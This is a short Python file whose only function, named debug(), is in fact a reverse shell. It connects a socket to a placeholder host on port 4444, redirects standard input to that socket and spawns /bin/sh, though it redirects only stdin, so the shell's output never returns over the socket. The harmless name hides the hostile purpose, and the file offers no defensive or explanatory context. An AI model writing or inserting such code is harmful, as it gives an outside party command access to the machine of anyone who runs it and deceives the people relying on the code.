import os
import pty
import socket


def debug():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect(("host.example.invalid", 4444))
    os.dup2(s.fileno(), 0)
    pty.spawn("/bin/sh")
